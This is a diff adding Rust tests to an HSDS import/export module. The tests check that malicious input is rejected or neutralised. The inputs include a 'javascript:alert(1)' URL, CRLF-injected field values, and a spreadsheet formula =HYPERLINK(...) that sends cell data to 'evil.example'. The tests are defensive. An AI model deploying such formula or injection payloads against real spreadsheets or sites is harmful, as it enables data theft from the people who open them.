@@ -619,3 +619,124 @@ fn hsds_import_refuses_bad_files_with_typed_errors() {
         Err(ImportError::TooLarge { .. })
     ));
 }
+
+#[test]
+fn hsds_import_takes_only_http_urls_and_language_tags() {
+    let file = r#"[{"id": "a0000000-0000-4000-8000-000000000009", "name": "Beratung", "status": "active",
+        "url": "javascript:alert(1)",
+        "organization": {"id": "x", "name": "O", "description": "", "website": "https://x.example/\r\nTEL:+1 900"},
+        "languages": [{"id": "l1", "code": "de\r\nTEL:+1 900 FRAUD"}, {"id": "l2", "code": "tr"}]}]"#;
+    let import = import_hsds_json(file.as_bytes(), &options()).unwrap();
+    let ItemDetails::Offer(offer) = &import.items[0].item.content.details else {
+        panic!("not an offer")
+    };
+    assert_eq!(offer.service_url, None);
+    assert_eq!(offer.organization.url, None);
+    assert_eq!(offer.languages, ["tr"]);
+    let skipped = skipped_of(&import);
+    for e in [
+        "service a0000000-0000-4000-8000-000000000009 url: not taken: `javascript:alert(1)` is not an http(s) URL",
+        "service a0000000-0000-4000-8000-000000000009 organization website: not taken: `https://x.example/\\r\\nTEL",
+        "service a0000000-0000-4000-8000-000000000009 language: not taken: `de\r\nTEL:+1 900 FRAUD` is not a BCP-47 tag",
+    ] {
+        assert!(skipped.iter().any(|s| s.starts_with(e)), "no `{e}` in {skipped:#?}");
+    }
+    assert_eq!(skipped.len(), 3, "{skipped:#?}");
+}
+
+#[test]
+fn hsds_csv_export_defuses_formulas_and_round_trips_losslessly() {
+    let mut item = offer_item();
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Klick")"#;
+    item.content.title = LocalizedText::from([("de", formula)]);
+    item.content.body = LocalizedText::from([("de", "@SUMME(1;2)")]);
+    if let ItemDetails::Offer(offer) = &mut item.content.details {
+        offer.fees = Some("-5 € für Material".into());
+        offer.eligibility = Some("-- nach Absprache --".into());
+        offer.organization.phone = Some("+49 221 555 0101".into());
+        offer.contacts[0].name = Some("'=schon zitiert".into());
+        offer.contacts[0].title = Some("+SUM(A1)".into());
+        offer.contacts[0].phone = Some("(030) 12/34-5".into());
+        offer.contacts[1].name = Some("'+49 als Text".into());
+        offer.accessibility[0] = "'Stufenlos".into();
+    }
+    let export = export_hsds_csv(std::slice::from_ref(&item), "de").unwrap();
+    let services = String::from_utf8(export.files["services.csv"].clone()).unwrap();
+    assert!(
+        services.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Klick"")""#),
+        "{services}"
+    );
+    let phones = String::from_utf8(export.files["phones.csv"].clone()).unwrap();
+    assert!(phones.contains(",+49 221 555 0101,"), "{phones}");
+    assert!(phones.contains(",(030) 12/34-5,"), "{phones}");
+    // No cell a spreadsheet would run as a formula.
+    for (name, bytes) in &export.files {
+        if !name.ends_with(".csv") {
+            continue;
+        }
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                let plain = cell.chars().all(|c| c.is_ascii_digit() || " ()./-+".contains(c));
+                match cell.chars().next() {
+                    Some('=' | '@' | '\t' | '\r') => panic!("{name}: {cell:?}"),
+                    Some('+' | '-') => assert!(plain, "{name}: {cell:?}"),
+                    _ => {}
+                }
+            }
+        }
+    }
+    let import = import_hsds_csv(&export.files, &options()).unwrap();
+    assert_round_trip(&import, &[item]);
+}
+
+#[test]
+fn hsds_csv_import_bounds_cells_and_the_joined_services() {
+    use quartier_standards::hsds::{MAX_CELL_BYTES, MAX_JOINED_BYTES};
+    let service_rows = |count: usize| {
+        let mut text = "id,organization_id,name,status\n".to_owned();
+        for i in 0..count {
+            text.push_str(&format!("s{i},o1,Dienst {i},active\n"));
+        }
+        text.into_bytes()
+    };
+    // A cell over the limit: the row is not read, and says why.
+    let long = format!(
+        "id,name,description\no1,Verein,kurz\no2,Zu lang,{}\n",
+        "x".repeat(MAX_CELL_BYTES + 1)
+    );
+    let files = BTreeMap::from([
+        ("organizations.csv".to_owned(), long.into_bytes()),
+        ("services.csv".to_owned(), service_rows(2)),
+    ]);
+    let import = import_hsds_csv(&files, &options()).unwrap();
+    assert_eq!(import.items.len(), 2);
+    let skipped = skipped_of(&import);
+    assert!(
+        skipped
+            .iter()
+            .any(|s| s.starts_with("organizations.csv line 3: not read: its `description` is")),
+        "{skipped:#?}"
+    );
+    // One shared organization just under the cell limit, named by enough services to pass the
+    // bound of the join: refused, though the file is small.
+    let shared = format!(
+        "id,name,description\no1,Verein,{}\n",
+        "x".repeat(MAX_CELL_BYTES - 100)
+    );
+    let count = MAX_JOINED_BYTES / (MAX_CELL_BYTES - 100) + 1;
+    let files = BTreeMap::from([
+        ("organizations.csv".to_owned(), shared.into_bytes()),
+        ("services.csv".to_owned(), service_rows(count)),
+    ]);
+    assert!(files.values().map(Vec::len).sum::<usize>() < MAX_IMPORT_BYTES / 100);
+    match import_hsds_csv(&files, &options()) {
+        Err(ImportError::Malformed {
+            format: "HSDS CSV",
+            reason,
+        }) => {
+            assert!(reason.contains(&MAX_JOINED_BYTES.to_string()), "{reason}")
+        }
+        other => panic!("expected Malformed, got {:?}", other.map(|i| i.items.len())),
+    }
+}
